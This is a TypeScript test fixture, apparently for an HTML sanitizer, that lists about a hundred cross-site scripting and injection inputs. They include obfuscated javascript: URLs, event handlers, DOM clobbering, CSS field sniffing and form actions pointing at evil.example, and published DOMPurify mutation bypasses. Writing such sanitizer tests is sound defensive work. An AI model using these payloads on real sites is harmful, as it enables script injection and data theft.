/** HTML that must do nothing. `text`: what stays readable. Each would set `__xss` or request something from `evil.example`. */
export interface Attack {
  name: string;
  html: string;
  text?: string;
}

const RUN = 'window.__xss=1';
const EVIL = 'https://evil.example';
const link = (name: string, href: string): Attack => ({ name, html: `<a href="${href}">x</a>`, text: 'x' });
/** Elements with these names would hide members that scripts use. */
const named = (name: string): Attack[] => [
  { name: `id that hides "${name}"`, html: `<form id="${name}"><a id="${name}">x</a></form>`, text: 'x' },
  { name: `name that hides "${name}"`, html: `<form name="${name}"><input name="${name}"><img name="${name}" alt="x"></form>`, text: 'x' },
];

export const ATTACKS: readonly Attack[] = [
  // the shared list of bad inputs
  { name: '(html-05)', html: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  link('(html-07)', `java&#10;script:${RUN}`),
  link('(html-09)', ` \u0001javascript:${RUN}`),
  { name: '(html-11)', html: `<button formaction="javascript:${RUN}" form="f">x</button><form id=f></form>`, text: 'x' },
  { name: '(html-12)', html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">` },
  { name: '(html-16)', html: `<template><img src=x onerror="${RUN}"></template>` },
  { name: '(html-18)', html: `<input autofocus onfocus="${RUN}">` },
  { name: '(html-20)', html: `<style>@import "${EVIL}/x.css";</style>` },
  { name: '(html-26)', html: `<object data="javascript:${RUN}"></object>` },
  { name: '(html-28)', html: `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>` },
  { name: '(html-30)', html: `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>` },
  { name: '(html-32)', html: `<a id=__APP_CONFIG__></a><a id=__APP_CONFIG__ name=apiBase href="${EVIL}/">` },
  { name: '(html-34)', html: `<x-foo onclick="${RUN}" style="animation-name:x" onanimationstart="${RUN}">x</x-foo>`, text: 'x' },
  { name: '(html-35)', html: `<!-- --!><img src=x onerror="${RUN}"> -->`, text: '-->' },
  { name: '(html-41)', html: `${'<b>'.repeat(300)}x`, text: 'x' },
  { name: '(html-42)', html: `${'<table><tr><td>'.repeat(100)}x`, text: 'x' },

  // scripts
  { name: 'script', html: `x<script>${RUN}</script>`, text: 'x' },
  { name: 'script of another origin', html: `<script src="${EVIL}/x.js"></script>` },
  { name: 'module script', html: `<script type=module>${RUN}</script>` },
  { name: 'script within script', html: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'script in capitals with a slash', html: `<SCRIPT/x>${RUN}</SCRIPT>` },
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg script by reference', html: `<svg><script href="data:,${RUN}" /></svg>` },
  { name: 'speculation rules', html: `<script type=speculationrules>{"prerender":[{"urls":["${EVIL}/"]}]}</script>` },
  { name: 'noscript', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
  { name: 'declarative shadow root', html: `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>` },

  // event handlers
  { name: 'onerror', html: `<img src=x onerror=${RUN}>` },
  { name: 'onerror after a slash', html: `<img/src=x/onerror=${RUN}>` },
  { name: 'onerror after a line break', html: `<img src=x on\nerror=${RUN} \nonerror\n=\n${RUN}>` },
  { name: 'onload of svg', html: `<svg onload=${RUN}>` },
  { name: 'ontoggle', html: `<details open ontoggle=${RUN}><summary>x</summary></details>`, text: 'x' },
  {
    name: 'onbeforetoggle of a popover',
    html: `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${RUN}>y</p>`,
    text: 'xy',
  },
  {
    name: 'oncontentvisibilityautostatechange',
    html: `<p oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">x`,
    text: 'x',
  },
  { name: 'onscrollsnapchange', html: `<div onscrollsnapchange=${RUN}>x</div>`, text: 'x' },
  { name: 'onfocus with tabindex and autofocus', html: `<p tabindex=1 autofocus onfocus=${RUN}>x</p>`, text: 'x' },
  { name: 'onstart of marquee', html: `<marquee onstart=${RUN}>x</marquee>`, text: 'x' },
  { name: 'onerror of video, audio and source', html: `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>` },
  { name: 'onpageshow of body', html: `<body onpageshow=${RUN}>x</body>`, text: 'x' },
  { name: 'onclick that a label triggers', html: `<label for=c>x</label><input type=checkbox id=c onclick=${RUN}>`, text: 'x' },

  // links
  link('javascript:', `javascript:${RUN}`),
  link('javascript: in mixed case', `JaVaScRiPt:${RUN}`),
  link('javascript: with a tab', `java\tscript:${RUN}`),
  link('javascript: with a line break', `java\nscript:${RUN}`),
  link('javascript: in decimal entities', `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`),
  link('javascript: in hexadecimal entities', `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`),
  link('javascript: with named entities', `javascript&colon;${RUN}`),
  link('javascript: with tab entities', `jav&Tab;ascript&NewLine;:${RUN}`),
  link('javascript: after spaces', `\u00a0\u2003 javascript:${RUN}`),
  link('javascript: with a null character', `java\u0000script:${RUN}`),
  link('javascript: after a comment that looks like http', `javascript://shop.example/%0a${RUN}`),
  link('data: with a script', `data:text/html,<script>${RUN}</script>`),
  link('data: in base64', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='),
  link('vbscript:', `vbscript:${RUN}`),
  link('blob:', `blob:${EVIL}/0`),
  link('filesystem:', `filesystem:${EVIL}/temporary/x`),
  link('view-source:', `view-source:javascript:${RUN}`),
  link('intent:', 'intent://x#Intent;scheme=javascript;end'),
  link('credentials in a URL', 'https://shop.example@evil.example/'),
  link('backslashes in a URL', 'https:\\\\evil.example\\x'),
  link('mail with headers of its own', 'mailto:a@shop.example\r\nBcc: b@evil.example'),
  { name: 'ping', html: `<a href="/x" ping="${EVIL}/p">x</a>`, text: 'x' },
  { name: 'a new window that can reach its opener', html: `<a href="${EVIL}/" target=_blank rel=opener>x</a>`, text: 'x' },
  { name: 'a named window', html: '<a href="/x" target=_top>x</a><a href="/y" target=shop>y</a>', text: 'xy' },
  { name: 'attribution source', html: `<a href="/x" attributionsrc="${EVIL}/a">x</a>`, text: 'x' },

  // what a page requests by itself
  { name: 'base', html: `<base href="${EVIL}/"><a href="x">x</a>`, text: 'x' },
  { name: 'refresh', html: `<meta http-equiv=refresh content="0;url=${EVIL}/">` },
  { name: 'a policy of its own', html: `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">` },
  { name: 'stylesheet', html: `<link rel=stylesheet href="${EVIL}/x.css">` },
  { name: 'preload and prerender', html: `<link rel=preload as=image href="${EVIL}/x"><link rel=prerender href="${EVIL}/y">` },
  { name: 'style attribute with a URL', html: `<p style="background:url(${EVIL}/x)">x</p>`, text: 'x' },
  { name: 'style that reads fields', html: `<style>input[value^=a]{background:url(${EVIL}/a)}</style><input value=a>` },
  { name: 'svg style', html: `<svg><style>@import "${EVIL}/x.css";</style></svg>` },
  { name: 'foreign picture', html: `<img src="${EVIL}/x.png" alt="x">`, text: 'x' },
  { name: 'foreign picture of many sizes', html: `<img srcset="${EVIL}/x.png 1x, //evil.example/y.png 2x" alt="x">`, text: 'x' },
  {
    name: 'foreign source of a picture',
    html: `<picture><source srcset="${EVIL}/x.webp"><img src="//evil.example/x.png" alt="x"></picture>`,
    text: 'x',
  },
  { name: 'picture that is a document', html: `<img src="data:image/svg+xml,<svg onload=${RUN}>" alt="x">`, text: 'x' },
  {
    name: 'lowsrc, dynsrc and background',
    html: `<img lowsrc="${EVIL}/a" dynsrc="${EVIL}/b" alt=""><table background="${EVIL}/c"><tr><td background="${EVIL}/d">x</table>`,
    text: 'x',
  },
  { name: 'input as a picture', html: `<input type=image src="${EVIL}/x.png" alt="x">` },
  { name: 'video with poster', html: `<video poster="${EVIL}/p" src="${EVIL}/v" autoplay></video>` },
  { name: 'frames', html: `<iframe src="${EVIL}/"></iframe><frameset><frame src="${EVIL}/"></frameset><fencedframe></fencedframe>` },
  { name: 'embed and applet', html: `<embed src="${EVIL}/x.swf"><applet code=x archive="${EVIL}/x.jar"></applet>` },
  { name: 'portal', html: `<portal src="${EVIL}/"></portal>` },
  { name: 'svg image and use', html: `<svg><image href="${EVIL}/x"/><use href="${EVIL}/x.svg#x"/><feImage href="${EVIL}/f"/></svg>` },
  {
    name: 'svg use of data',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  },
  { name: 'svg animation of a link', html: `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>` },
  { name: 'svg set of a handler', html: `<svg><set attributeName=onmouseover to="${RUN}"/>x</svg>` },

  // forms
  { name: 'form to another origin', html: `<form action="${EVIL}/"><input name=password value=x></form>` },
  { name: 'form to another origin without a scheme', html: '<form action="//evil.example/"><button>x</button></form>', text: 'x' },
  { name: 'form that runs a script', html: `<form action="javascript:${RUN}"><button>x</button></form>`, text: 'x' },
  { name: 'form within a form', html: `<form action="/a"><div></form><form action="${EVIL}/"><input name=a></div></form>` },
  { name: 'button that leads its form elsewhere', html: `<form action="/a"><button formaction="${EVIL}/">x</button></form>`, text: 'x' },
  { name: 'field of a form that is elsewhere', html: '<input form=vitrina-login name=x value=x><button form=login>x</button>', text: 'x' },
  { name: 'dirname and isindex', html: `<form action="/a"><input dirname=x name=a><isindex action="${EVIL}/"></form>` },
  { name: 'form that opens a window', html: '<form action="/a" target=_top><button formtarget=_parent>x</button></form>', text: 'x' },

  // names
  ...['vitrina', 'config', 'attributes', 'parentNode', 'body', 'nodeName', 'childNodes', 'firstChild', 'hasChildNodes'].flatMap(named),
  ...['removeChild', 'getAttribute', 'dataset', 'matches', 'closest', 'querySelectorAll', 'implementation', 'location'].flatMap(named),
  ...['trustedTypes', 'createElement', '__proto__', 'constructor', 'vitrina-config'].flatMap(named),
  { name: 'two elements with one id become a collection', html: '<a id=jQuery></a><a id=jQuery name=fn href="x:y">x</a>', text: 'x' },
  {
    name: 'the id of our own element',
    html: '<script id="vitrina-config" type="application/json">{"country":"HU"}</script><p id="vitrina-config">x',
    text: 'x',
  },
  { name: 'field outside its form', html: '<form id=f></form><input form=f name=parentNode><input form=f id=attributes>' },

  // page scripts
  {
    name: 'attributes that page scripts bring to life',
    html: `<a href="/x" data-toggle=modal data-remote="${EVIL}" data-method=delete data-bind="text: ${RUN}" x-on:click="${RUN}" @click="${RUN}" v-on:click="${RUN}" ng-click="${RUN}" hx-get="${EVIL}">x</a>`,
    text: 'x',
  },
  {
    name: 'states of ours',
    html: '<div data-vitrina-status=ready data-vitrina-content data-vitrina-reason=x data-vitrina-busy>x</div>',
    text: 'x',
  },
  { name: 'props without a placeholder', html: '<div data-variant-id=1 data-id=2>x</div>', text: 'x' },
  {
    name: 'slots, parts and custom elements',
    html: '<p slot=x part=dialog exportparts=x is=x-p contenteditable accesskey=x>x</p>',
  },

  // mutations, among them published bypasses of DOMPurify
  { name: 'mutation: form in math', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
  { name: 'mutation: nested svg title', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  {
    name: 'mutation: annotation-xml',
    html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  },
  {
    name: 'mutation: table in select',
    html: `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN}>">`,
  },
  {
    name: 'mutation: deep nesting',
    html: `${'<div>'.repeat(520)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${RUN}>"></a></style></svg></caption></table>`,
  },
  {
    name: 'mutation: nested forms and lists',
    html: `<form id=outer><div></form><form id=inner><svg><style><a id="</style><img src=x onerror=${RUN}>">`,
  },
  {
    name: 'mutation: noembed, noframes, xmp, plaintext',
    html: `<noembed><img src=x onerror=${RUN}></noembed><noframes></noframes><xmp><img src=x onerror=${RUN}></xmp><plaintext><img src=x onerror=${RUN}>`,
  },
  {
    name: 'mutation: textarea and title',
    html: `<textarea></textarea><img src=x onerror=${RUN}></textarea><title></title><img src=x onerror=${RUN}></title>`,
  },
  {
    name: 'mutation: comment in an attribute',
    html: `<p title="--><img src=x onerror=${RUN}>">x</p><!--><img src=x onerror=${RUN}>-->`,
    text: 'x-->',
  },
  {
    name: 'mutation: processing instruction and CDATA',
    html: `<?xml-stylesheet href="javascript:${RUN}"?><svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  },
  {
    name: 'mutation: mglyph and malignmark',
    html: `<math><mi><table><mglyph><style><math href=javascript:${RUN}>x</math></style></mglyph></table></mi></math>`,
  },
  {
    name: 'mutation: foreignObject',
    html: `<svg><foreignObject><math><mi title="</mi></math><img src=x onerror=${RUN}>">x</mi></math></foreignObject></svg>`,
  },
  {
    name: 'mutation: selectedcontent',
    html: `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${RUN}>x</option></select>`,
  },
  {
    name: 'mutation: font out of svg',
    html: `<svg><desc><b><font color><style><a title="</style><img src onerror=${RUN}>">x</a></style></font></b></desc></svg>`,
  },
];
